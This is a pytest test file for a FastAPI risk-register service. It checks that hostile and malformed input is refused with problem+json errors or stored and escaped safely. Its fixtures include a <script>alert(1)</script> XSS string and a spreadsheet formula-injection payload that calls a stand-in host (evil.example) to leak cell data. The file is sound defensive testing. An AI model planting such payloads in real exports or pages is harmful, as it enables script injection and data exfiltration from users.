"""Hostile and malformed input, on every engine: refused cleanly as problem+json, or stored safely."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import func
from sqlmodel import Session, select

from app.models import AuditEvent, Review, Risk, Service
from tests.api.builders import field_names, get_risk, make_risk, make_service

PROBLEM = "application/problem+json"
LIMIT = 1_000_000  # RISKREG_MAX_BODY_BYTES default, the limit the app fixture runs with

WELSH = "Perygl llifogydd yng Nghaerdydd: ŵyr, ŷd, â, ê"
ARABIC = "خطر الفيضانات في المدينة"
EMOJI = "Flooding 🌊🏚️👩🏽‍🚒"
RTL = "invoice\u202etxt.exe \u200fmark"


def _problem(response: Any, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith(PROBLEM), response.headers
    body: dict[str, Any] = response.json()
    assert body["status"] == status
    assert body["type"]
    assert body["title"]
    return body


def _counts(app: FastAPI) -> tuple[int, ...]:
    with Session(app.state.engine) as session:
        return tuple(
            session.exec(select(func.count()).select_from(table)).one()
            for table in (Service, Risk, Review, AuditEvent)
        )


@pytest.fixture
def risk(client: TestClient) -> dict[str, Any]:
    make_service(client)
    return make_risk(client)


def test_oversized_body_is_413(client: TestClient, risk: dict[str, Any]) -> None:
    """A body over the limit, with Content-Length, is refused with 413 problem+json before it is read."""
    body = b'{"title": "' + b"x" * (LIMIT + 10) + b'"}'
    response = client.post("/api/v1/services", content=body, headers={"Content-Type": "application/json"})
    _problem(response, 413)


def test_oversized_chunked_body_is_413(client: TestClient, app: FastAPI, risk: dict[str, Any]) -> None:
    """A chunked body (no Content-Length) is counted while it streams and refused past the limit."""
    before = _counts(app)

    def chunks() -> Iterator[bytes]:
        yield b'{"ref": "CP09", "title": "'
        for _ in range(LIMIT // 65536 + 2):
            yield b"y" * 65536
        yield b'", "response": "treat"}'

    response = client.post(
        "/api/v1/services/CP/risks", content=chunks(), headers={"Content-Type": "application/json"}
    )
    assert "content-length" not in response.request.headers
    _problem(response, 413)
    assert _counts(app) == before


def test_page_size_above_the_bound_is_422(client: TestClient, risk: dict[str, Any]) -> None:
    body = _problem(client.get("/api/v1/risks", params={"page_size": 10_000}), 422)
    assert "query.page_size" in [e["field"] for e in body["errors"]]


@pytest.mark.parametrize("field", ["id", "service", "version", "created_by", "residual", "updated_by"])
def test_patch_refuses_fields_it_does_not_own(client: TestClient, risk: dict[str, Any], field: str) -> None:
    """No mass assignment: an unknown or server-owned field in a PATCH is 422 and nothing changes."""
    before, etag = get_risk(client, risk["id"])
    value: Any = (
        {"likelihood": 4, "impact": 4} if field == "residual" else 999 if field in ("id", "version") else "X"
    )
    response = client.patch(f"/api/v1/risks/{risk['id']}", json={field: value}, headers={"If-Match": etag})
    body = _problem(response, 422)
    assert f"body.{field}" in [e["field"] for e in body["errors"]]
    assert get_risk(client, risk["id"]) == (before, etag)


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/api/v1/services", {"code": "XX", "name": "X", "id": 5}),
        ("/api/v1/services/CP/risks", {"ref": "CP02", "title": "t", "response": "treat", "version": 9}),
        ("/api/v1/risks/{id}/reviews", {"residual": {"likelihood": 1, "impact": 1}, "score": 16}),
    ],
)
def test_writes_refuse_unknown_fields(
    client: TestClient, risk: dict[str, Any], path: str, body: dict[str, Any]
) -> None:
    problem = _problem(client.post(path.format(id=risk["id"]), json=body), 422)
    assert problem["errors"][0]["type"] == "extra_forbidden"


def test_malformed_json_is_400(client: TestClient, risk: dict[str, Any]) -> None:
    response = client.post(
        f"/api/v1/risks/{risk['id']}/reviews",
        content=b'{"residual": {',
        headers={"Content-Type": "application/json"},
    )
    _problem(response, 400)


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"residual": {"likelihood": "high", "impact": 2}}, "body.residual.likelihood"),
        ({"residual": {"likelihood": 2.5, "impact": 2}}, "body.residual.likelihood"),
        ({"residual": {"likelihood": 9, "impact": 2}}, "body.residual.likelihood"),
        ({"residual": {"likelihood": 2, "impact": 0}}, "body.residual.impact"),
        ({"residual": {"likelihood": 2, "impact": 2}, "reviewed_on": "30/09/2025"}, "body.reviewed_on"),
        ({"residual": {"likelihood": 2, "impact": 2}, "reviewed_on": "2025-02-30"}, "body.reviewed_on"),
        ({"residual": {"likelihood": 2, "impact": 2}, "response": "ignore"}, "body.response"),
        ({"residual": [2, 2]}, "body.residual"),
    ],
)
def test_bad_values_name_the_field(
    client: TestClient, app: FastAPI, risk: dict[str, Any], body: dict[str, Any], field: str
) -> None:
    """Wrong types, scores off the matrix and dates in the wrong format: 422 naming the field, nothing stored."""
    before = _counts(app)
    response = client.post(f"/api/v1/risks/{risk['id']}/reviews", json=body)
    assert field in field_names(response), response.text
    _problem(response, 422)
    assert _counts(app) == before


def test_hostile_text_is_stored_and_reported_safely(client: TestClient, risk: dict[str, Any]) -> None:
    """Welsh, Arabic, emoji, RTL overrides, NULs, a consequence at its 4,000-character cap and
    <script>: read back equal (NULs dropped), and every register download of the service still
    succeeds, with HTML escaped."""
    long_text = ("Consequence " * 400)[: 4_000 - len(f"{EMOJI}\x00 after NUL ")]
    sent = {
        "ref": "CP77",
        "title": f"{WELSH} <script>alert(1)</script>",
        "owner": f"{ARABIC} {RTL}",
        "consequence": f"{EMOJI}\x00 after NUL " + long_text,
        "controls": [f"{RTL}\x00control", ARABIC],
        "response": "treat",
        "residual": {"likelihood": 3, "impact": 4},
    }
    made = client.post("/api/v1/services/CP/risks", json=sent)
    assert made.status_code == 201, made.text
    stored, _ = get_risk(client, made.json()["id"])
    assert stored["title"] == sent["title"]
    assert stored["owner"] == sent["owner"]
    assert stored["consequence"] == (f"{EMOJI} after NUL " + long_text).strip()
    assert "\x00" not in stored["consequence"]
    assert stored["controls"] == [f"{RTL}control", ARABIC]

    for fmt in ("pdf", "xlsx", "csv", "html"):
        response = client.get("/api/v1/reports/register", params={"service": "CP", "format": fmt})
        assert response.status_code == 200, (fmt, response.text[:500])
        assert len(response.content) > 100
    html = client.get("/api/v1/reports/register", params={"service": "CP", "format": "html"}).text
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;" in html
    assert WELSH in html


def test_spreadsheet_formulas_are_neutralised(client: TestClient, risk: dict[str, Any]) -> None:
    """A title "=HYPERLINK(...)": the XLSX cell is a string, the CSV cell starts with a quote."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    make_risk(client, ref="CP66", title=formula, owner="@SUM(1+1)")
    xlsx = client.get("/api/v1/reports/register", params={"service": "CP", "format": "xlsx"})
    assert xlsx.status_code == 200
    cells = [
        c for ws in load_workbook(io.BytesIO(xlsx.content)).worksheets for row in ws.iter_rows() for c in row
    ]
    hits = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert hits, "the title is in the workbook"
    assert all(c.data_type == "s" for c in hits), [(c.coordinate, c.data_type) for c in hits]
    assert not [c for c in cells if c.data_type == "f"]

    text = client.get("/api/v1/reports/register", params={"service": "CP", "format": "csv"}).text
    cells_csv = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert f"'{formula}" in cells_csv
    assert not [c for c in cells_csv if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]


@pytest.mark.parametrize(
    "text",
    [
        "\x00\x01\x02\xff\xfe PK\x03\x04 \x89PNG\r\n\x1a\n" * 2000,
        "".join(chr(c) for c in range(1, 0x3000) if not 0xD800 <= c <= 0xDFFF) * 3,
    ],
    ids=["binary", "noise"],
)
def test_import_of_a_binary_looking_document_fails_cleanly(
    client: TestClient, app: FastAPI, text: str
) -> None:
    """A dry-run import of junk answers 422 (a problem, no 5xx) and changes nothing."""
    before = _counts(app)
    response = client.post("/api/v1/imports", json={"text": text, "dry_run": True})
    _problem(response, 422)
    assert _counts(app) == before


def test_import_of_a_huge_document_is_413(client: TestClient, app: FastAPI) -> None:
    before = _counts(app)
    response = client.post("/api/v1/imports", json={"text": "Risk " * 1_100_000, "dry_run": True})
    _problem(response, 413)
    assert _counts(app) == before
